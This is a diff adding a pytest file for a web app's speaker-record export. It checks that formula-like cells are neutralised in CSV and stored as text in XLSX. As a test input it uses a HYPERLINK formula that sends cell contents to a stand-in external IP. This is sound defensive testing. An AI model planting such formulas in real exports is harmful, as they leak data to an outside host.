@@ -1,0 +1,56 @@
+"""Safety 13: no cell of a record runs in a spreadsheet: neutralised in CSV, text in a workbook."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import openpyxl
+import pytest
+
+from hlom_live.web.record import COLUMNS, csv_file, neutral, xlsx_file
+from tests.support.web import API, Site
+
+FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
+STARTS = ["=", "+", "-", "@", "\t", "\r"]
+REST = [""] * (len(COLUMNS) - 1)
+
+
+@pytest.fixture
+def delivered(site: Site) -> Site:
+    """Chad has spoken, with formulas wherever words can be brought."""
+    site.open()
+    desk = site.bearer("secretariat")
+    told = {"speaker_name": "+1", "speaker_title": FORMULA, "on_behalf_of": "@SUM(A1)"}
+    assert site.command(desk, "inscribe", list="list", delegation="chad", **told).status_code == 200
+    turn = site.command(desk, "next_speaker", room="room", expect=None).json["result"]["intervention"]
+    assert site.command(desk, "end_intervention", room="room", expect=turn).status_code == 200
+    assert site.command(desk, "annotate_intervention", intervention=turn, summary="-2+3").status_code == 200
+    return site
+
+
+def test_the_cells_of_the_csv_are_neutralised(delivered: Site) -> None:
+    line = next(csv.DictReader(io.StringIO(delivered.client().get(f"{API}/record.csv").text)))
+    found = [line[name] for name in ("speaker_name", "speaker_title", "on_behalf_of", "summary")]
+    assert found == ["'+1", f"'{FORMULA}", "'@SUM(A1)", "'-2+3"]
+    assert not [cell for cell in line.values() if cell.startswith(tuple(STARTS))]
+
+
+def test_every_cell_of_the_workbook_is_text(delivered: Site) -> None:
+    book = openpyxl.load_workbook(io.BytesIO(delivered.client().get(f"{API}/record.xlsx").data))
+    head, line = book.active.iter_rows()
+    assert tuple(cell.value for cell in head) == COLUMNS
+    assert {cell.data_type for cell in (*head, *line) if cell.value is not None} == {"s"}
+    assert line[COLUMNS.index("speaker_title")].value == FORMULA
+
+
+@pytest.mark.parametrize("start", STARTS)
+def test_a_cell_that_begins_like_a_formula_is_neutralised(start: str) -> None:
+    assert neutral(f"{start}1+1") == f"'{start}1+1"
+    _, read = csv.reader(io.StringIO(csv_file([[f"{start}1+1", *REST]]).decode(), newline=""))
+    assert read[0] == f"'{start}1+1"
+
+
+def test_control_characters_do_not_break_the_workbook() -> None:
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_file([["a\x0bb", *REST]])))
+    assert book.active["A2"].value == "ab"
